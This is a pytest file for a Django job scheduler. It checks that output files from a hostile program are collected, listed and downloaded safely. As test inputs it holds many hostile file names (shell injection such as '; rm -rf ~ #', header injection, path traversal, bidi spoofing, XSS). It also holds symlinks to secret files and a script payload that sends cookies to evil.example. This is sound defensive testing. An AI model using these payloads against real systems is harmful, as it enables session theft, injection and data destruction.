"""What a hostile program leaves behind in its output folder, from its real run to the download and the page."""

from __future__ import annotations

import ast
import hashlib
import os
import re
import unicodedata
import zipfile
from email.message import Message
from html import unescape
from typing import TYPE_CHECKING
from urllib.parse import unquote

import pytest
from django.test import Client
from django.utils import timezone

from scheduler import outputs
from scheduler.models import Archive, RunEvent
from scheduler.states import Status

if TYPE_CHECKING:
    from .conftest import World

# Relative to the output folder, as a program can give them to the kernel.
HOSTILE_NAMES: list[bytes] = [
    # Characters that end, move or colour a line, and those that end a string of C or of HTTP
    b"line\nend.csv",
    b"line\r\nSet-Cookie: session=stolen",
    b"return\rover.csv",
    b"tab\there",
    b"vertical\x0btab",
    b"form\x0cfeed",
    b"bell\x07",
    b"back\x08space",
    b"\x1b[31mred\x1b[0m",
    b"\x1b]0;title\x07",
    b"\x1b]8;;http:evil\x1b\\link",
    b"delete\x7f",
    b"\x01\x02\x03",
    "c1\u009b31m".encode(),
    "next\u0085line".encode(),
    "line\u2028separator".encode(),
    "paragraph\u2029separator".encode(),
    # Names that look like something else
    "gnp\u202efdp.exe".encode(),
    "\u2066isolated\u2069.txt".encode(),
    "left\u200emark".encode(),
    "right\u200fmark".encode(),
    "arabic\u061cmark".encode(),
    "zero\u200bwidth.csv".encode(),
    "\ufeffbom.csv".encode(),
    "soft\u00adhyphen".encode(),
    "private\ue000use".encode(),
    "tag\U000e0041".encode(),
    "r\u0435port.csv".encode(),  # a Cyrillic letter
    "two\uff0edots".encode(),
    "\u2215root\u2215file".encode(),
    ("combining" + "\u0301" * 40).encode(),
    # No text at all
    b"bad\xffbyte",
    b"\xc3\x28",
    b"\xed\xa0\x80",
    b"overlong\xc0\xaf",
    b"\x80",
    # Paths
    b"...",
    b".. .",
    b"..\\..\\windows",
    b"C:\\autoexec.bat",
    b"%2e%2e%2fetc%2fpasswd",
    b"%00.csv",
    b"~root",
    b"deep/er/x",
    b"deep_er_x",  # what the one before is called
    b"-deep/-rf",
    b".hidden",
    b" .hidden. ",
    b"hidden",  # what those two are called
    # Options, shell and formulas
    b"-rf",
    b"--help",
    b"$(reboot)",
    b"`reboot`",
    b"; rm -rf ~ #",
    b"| cat",
    b"a'b\"c",
    b"*?[a]",
    b"$host${uri}",
    b"=1+1.csv",
    b"@SUM(A1).csv",
    # Pages, headers and templates
    b"<script>alert(1)",
    b"<img src=x onerror=alert(1)>.html",
    b'" onmouseover="alert(1)',
    b"&lt;b&gt;",
    b"{{ settings.SECRET_KEY }}",
    b"{% debug %}",
    b"javascript:alert(1)",
    b"x.csv; filename=evil.exe",
    b'x"; filename="evil.exe',
    b"filename*=utf-8''evil.exe",
    # Lengths, devices of other systems, nearly equal names
    b"x" * 255,
    b"y" * 250 + b".csv",
    b"y" * 251 + b".csv",
    "é".encode() * 127,
    "\U0001f600".encode() * 63,
    b"z." + b"e" * 200,
    b"CON",
    b"NUL.txt",
    b"report.csv",
    b"REPORT.CSV",
    b"report.csv ",
    b"report.csv.",
    b"report.csv\n",
    b"report.tar.gz",
    b"picture.svg",
]

WRITE_THEM = """
    import os
    for name in {names!r}:
        folder = os.path.dirname(name)
        if folder:
            os.makedirs(folder, exist_ok=True)
        with open(name, "wb") as file:
            file.write(b"content of " + name)
    """


def assert_harmless(name: str) -> None:
    assert name == name.strip(" .")
    assert 1 <= len(name.encode()) <= outputs.NAME_BYTES
    assert not set(name) & set("/\\")
    assert {unicodedata.category(character) for character in name}.isdisjoint({"Cc", "Cf", "Cs", "Zl", "Zp", "Co"})


def offered_name(disposition: str) -> str:
    """The name under which a browser saves a download."""
    assert disposition.isascii()
    assert disposition.isprintable()
    header = Message()
    header["Content-Disposition"] = disposition
    assert header.get_content_disposition() == "attachment"
    extended = re.fullmatch(r"attachment; filename\*=utf-8''(\S+)", disposition)
    return unquote(extended[1]) if extended else str(header.get_filename())


def test_many_hostile_names_are_collected_shown_and_downloaded_under_harmless_ones(world: World) -> None:
    assert len(HOSTILE_NAMES) == len(set(HOSTILE_NAMES)) >= 60
    run = world.run(WRITE_THEM.format(names=HOSTILE_NAMES))
    assert run.status == Status.COMPLETED, world.log(run)
    files = list(run.files.all())

    expected = sorted(hashlib.sha256(b"content of " + name).hexdigest() for name in HOSTILE_NAMES)
    assert sorted(file.sha256 for file in files) == expected
    assert len({file.name for file in files}) == len(HOSTILE_NAMES)
    for file in files:
        assert_harmless(file.name)
    kept = {str(run.uuid), *(str(file.pk) for file in files)}
    assert {path.name for path in outputs.store_folder(run.uuid).iterdir()} == kept

    client = Client()
    client.force_login(world.owner)
    for file in files:
        response = client.get(file.get_absolute_url())
        assert response.status_code == 200, file.name
        assert hashlib.sha256(b"".join(response)).hexdigest() == file.sha256
        assert offered_name(response.headers["Content-Disposition"]) == file.name
        assert not {"Set-Cookie", "Content-Encoding"} & set(response.headers)
        assert response.headers["Content-Type"] == "application/octet-stream"

    pages = [client.get(run.get_absolute_url(), {"files": number}).text for number in (1, 2)]
    page = "".join(pages)
    for markup in ("<script>alert", "<img src=x", '" onmouseover="', "\x1b", "\u202e"):
        assert markup not in page
    links = re.findall(r'<a href="(/scheduler/files/[^"]+)" [^<>]*><bdi>([^<>]*)</bdi></a>', page)
    assert {url: unescape(text) for url, text in links} == {file.get_absolute_url(): file.name for file in files}
    assert "settings.SECRET_KEY" in " ".join(file.name for file in files)


def test_a_zip_of_hostile_names_unpacks_into_one_folder(world: World) -> None:
    run, poller = world.run(WRITE_THEM.format(names=HOSTILE_NAMES)), world.poller()
    Archive.request(run, by=world.owner, now=timezone.now())
    world.until(lambda: Archive.objects.get().file, "the archive is built", poller=poller)
    packed_file = Archive.objects.get().file
    assert packed_file is not None
    place = world.folder / "unpacked" / "here"
    with zipfile.ZipFile(outputs.file_path(packed_file)) as packed:
        assert packed.testzip() is None
        assert set(packed.namelist()) == {file.name for file in run.files.of_program()}
        packed.extractall(place)
    assert [path.name for path in place.parent.iterdir()] == ["here"]
    assert {path.name for path in place.iterdir()} == {file.name for file in run.files.of_program()}
    assert all(path.is_file() and not path.is_symlink() for path in place.iterdir())


def test_every_kind_of_what_is_no_file_of_its_own_stays_behind_and_is_named(world: World) -> None:
    (world.folder / "secret").write_text("not for you")
    (world.folder / "secret-folder").mkdir()
    (world.folder / "secret-folder" / "key").write_text("not for you")
    run = world.run(
        """
        import os, socket, stat
        outside = os.environ["FOLDER"]
        made = []
        def make(name, how):
            how(name)
            made.append(name)
        make("symlink", lambda name: os.symlink(outside + "/secret", name))
        make("relative-symlink", lambda name: os.symlink("good", name))
        make("dangling", lambda name: os.symlink(outside + "/nothing", name))
        make("loop", lambda name: os.symlink("loop", name))
        make("folder-symlink", lambda name: os.symlink(outside + "/secret-folder", name))
        make("proc-symlink", lambda name: os.symlink("/proc/self/environ", name))
        make("hardlink", lambda name: os.link(outside + "/secret", name))
        open("own", "w").write("two names of one file")
        make("own-hardlink", lambda name: os.link("own", name))
        made.append("own")
        make("fifo", os.mkfifo)
        make("socket", lambda name: socket.socket(socket.AF_UNIX).bind(name))
        for name, kind, device in (("null", stat.S_IFCHR, (1, 3)), ("loop-device", stat.S_IFBLK, (7, 0))):
            try:
                make(name, lambda name: os.mknod(name, kind | 0o600, os.makedev(*device)))
            except PermissionError:
                pass  # only root makes devices
        os.mkdir("deep")
        make("deep/fifo", os.mkfifo)
        open("good", "w").write("good")
        print(made)
        """
    )
    assert run.status == Status.COMPLETED, world.log(run)
    made = ast.literal_eval(world.log(run))
    assert len(made) >= 12
    assert ("null" in made, "loop-device" in made) == ((os.geteuid() == 0,) * 2)
    assert [file.name for file in run.files.all()] == ["good"]
    assert sorted(path.name for path in outputs.store_folder(run.uuid).iterdir()) == sorted(
        [str(run.uuid), str(run.files.get().pk)]
    )
    problems = list(run.events.filter(what=RunEvent.What.NOT_COLLECTED).values_list("text", flat=True))
    named = dict(text.split(": ", 1) for text in problems)
    assert set(named) == {name.replace("/", "_") for name in made}
    for name, why in {
        "symlink": "symbolic link",
        "dangling": "symbolic link",
        "hardlink": "hard link",
        "own": "hard link",
        "fifo": "FIFO",
        "socket": "socket",
    }.items():
        assert why in named[name]
    assert (world.folder / "secret").read_text() == "not for you"
    client = Client()
    client.force_login(world.owner)
    page = client.get(run.get_absolute_url()).text
    assert all(name.replace("/", "_") in page for name in made)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("page.html", "<script>document.location = 'https://evil.example/' + document.cookie</script>"),
        ("picture.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>'),
        ("page.xhtml", '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'),
        ("no-extension", "<!doctype html><script>alert(1)</script>"),
    ],
)
def test_hostile_html_and_svg_are_never_shown_in_the_sites_origin(world: World, name: str, content: str) -> None:
    run = world.run(f"open({name!r}, 'w').write({content!r}); print({content!r})")
    client = Client()
    client.force_login(world.owner)
    response = client.get(run.files.get().get_absolute_url())
    assert b"".join(response).decode() == content
    assert response.headers["Content-Disposition"] == f'attachment; filename="{name}"'
    assert response.headers["Content-Type"] == "application/octet-stream"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response.headers["Content-Security-Policy"]
    # The same text in the log is text.
    assert content not in client.get(run.get_absolute_url()).text
